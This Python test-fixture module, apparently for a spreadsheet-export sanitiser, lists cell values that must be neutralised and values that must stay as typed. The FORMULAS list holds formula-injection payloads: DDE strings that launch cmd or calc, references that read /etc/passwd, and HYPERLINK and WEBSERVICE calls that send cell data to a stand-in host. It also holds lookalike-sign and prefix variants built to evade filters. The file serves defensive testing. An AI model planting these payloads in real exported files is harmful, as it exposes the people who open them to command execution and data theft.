"""Cells that try to become a formula, and cells that must come back as they were typed (SECURITY R26)."""

_SUM = "1+1"
_DDE = "cmd|'/C calc'!A0"
_CALLS = (
    'HYPERLINK("http://192.0.2.1/?x="&A1,"press")',
    'WEBSERVICE("http://192.0.2.1/"&A1)',
    'IMPORTXML(CONCAT("http://192.0.2.1/",A1),"//a")',
    'FILTERXML("<a/>","//a")',
    "SUM(A1:A9)*cmd|'/C calc'!A0",
    'DDE("soffice","/etc/passwd","A1")',
    "'file:///etc/passwd'#$passwd.A1",
    'EXEC("calc.exe")',
    "of:=1+1",
    'MSEXCEL|\'\\..\\..\\..\\Windows\\System32\\cmd.exe\'!""',
)
_SIGNS = ("=", "+", "-", "@")
_LOOKALIKES = ("＝", "＋", "－", "＠", "﹦", "﹢", "﹣", "﹫", "⁼", "⁺", "⁻", "₌", "₊", "₋", "\u2212")
_BEFORE = (
    " ", "  ", "\t", "\r", "\n", "\r\n", "\0", "\v", "\f", "\x1b", "\u00a0", "\u3000", "\u2003", "\u2028", "\u0085",
    "'", '"', '""', "''", "`", "\u2018", "\u201c", "\ufeff", "\u200b", "\u200e", "\u202e", "\u2066", "\u00ad", "' ",
)  # fmt: skip

FORMULAS = [
    *(f"{sign}{_SUM}" for sign in (*_SIGNS, *_LOOKALIKES)),
    *(f"={call}" for call in _CALLS),
    *(f"{sign}{_DDE}" for sign in _SIGNS),
    *(f"{before}={_SUM}" for before in _BEFORE),
    *(f"{before}@SUM(1,1)" for before in ("\t", " ", "\0", "\r")),
    *("=", "==1", "=A1", "=-1", "--1", "+-1", "-+1", "=1E5", "+1+1|calc", "-2+3+" + _DDE, "@", "+", "-", "- ", "=\t1"),
    *("- walks to the shop", "+ daughter's number", "@home", "-1,5", "-1/2", "+44 (0) 20 7946 0000 ext. 5"),
]
"""Each begins, for some program, with a sign of a formula."""

INNOCENT = [
    "Siân Llŷr o Dŷ Ŵyn", "O'Brien", 'the "key safe"', "R&D", "a;b,c|d", "50%", "100 %", "%0A=1+1", "|calc", "a=b",
    "x@y.example",
    "(=1+1)", "#N/A", "#REF!", "TRUE", "false", "null", "_x003D_1+1", "_x0041_", "😀 বাংলা أحمد", "<b>&amp;</b>",
    "a\\b", "{=1+1}",
    "$A$1", "[1]!A1", "1e5x", "a" * 300, "", " kept inside ", "x\u200dy", "?", "!", "~", "^", "12 Street, Town",
    "0,5", "1;2",
]  # fmt: skip
"""Nothing in them looks like a formula: they stay as they are."""

NUMBERS = [
    "+44 7700 900123", "+447700900123", "07700 900123", "07700900123", "020 7946 0000", "0012", "000", "943 476 5919",
    "9434765919", "-5", "+5", "3.14", "1 000", "0", "00447700900123",
]  # fmt: skip
"""Telephone numbers, numbers with leading zeros, and plain numbers: they stay as they are."""
